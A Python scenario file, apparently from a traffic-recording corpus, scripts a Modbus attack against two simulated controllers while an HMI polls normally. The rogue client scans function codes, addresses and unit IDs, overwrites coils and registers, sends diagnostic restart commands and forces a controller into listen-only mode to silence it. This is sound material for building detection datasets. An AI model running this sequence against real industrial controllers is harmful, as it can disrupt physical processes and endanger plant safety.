"""A rogue workstation maps a controller, writes over its outputs and silences it, beside an HMI at work."""

from plantwatch.corpus.record import Recording

FUNCTIONS = (9, 10, 13, 14, 18, 19, 40, 65, 91, 100, 125)  # reserved, or free for vendors

RECORDING = Recording(
    "modbus/recorded-attack",
    stacks=("pymodbus 3.16.1",),
    servers=("10.20.1.10", "10.20.1.11"),
    clients=("10.20.1.20", "10.20.1.66"),
    listens=("tcp 502",),
)


def server() -> None:
    """The two controllers, which know none of the functions that are tried."""
    from _modbus import PUMP, TANK, controllers

    controllers([PUMP, TANK], unsupported=FUNCTIONS)


def client() -> None:
    """Scan functions, addresses and units; write; attack the communication."""
    import struct
    import time
    from contextlib import suppress

    from _modbus import ATTACKER, HMI, PUMP, TANK, connect
    from pymodbus.exceptions import ModbusIOException

    hmi, tank = connect(HMI, PUMP), connect(HMI, TANK, timeout=1)
    rogue = connect(ATTACKER, PUMP)
    for plc in (hmi, tank):
        plc.read_holding_registers(0, count=20)

    for number, function in enumerate(FUNCTIONS, 1):
        rogue.send(struct.pack(">HHHBB", number, 0, 2, 1, function), None)
        rogue.recv(9)
    for address in range(1000, 1000 + 8 * 100, 100):
        rogue.read_holding_registers(address, count=10)
    for unit in range(2, 26):
        rogue.read_coils(0, count=1, device_id=unit)

    for attempt in range(120):
        rogue.write_coil(attempt % 40, attempt % 2 == 0)
    for register in range(0, 60, 10):
        rogue.write_registers(register, [0xFFFF] * 10)
    rogue.write_coil(0, False, device_id=0, no_response_expected=True)
    hmi.read_holding_registers(0, count=20)

    rogue.diag_change_ascii_input_delimeter(delimiter=0x2100)
    rogue.diag_clear_counters()
    rogue.diag_clear_overrun_counter()
    rogue.diag_restart_communication(True)
    rogue.diag_restart_communication(False)
    rogue.close()

    silencer = connect(ATTACKER, TANK)
    silencer.diag_force_listen_only()
    silencer.close()
    time.sleep(0.1)
    with suppress(ModbusIOException):  # the tank controller is mute now
        tank.read_holding_registers(0, count=20)
    hmi.read_holding_registers(0, count=20)
    tank.close()
    hmi.close()
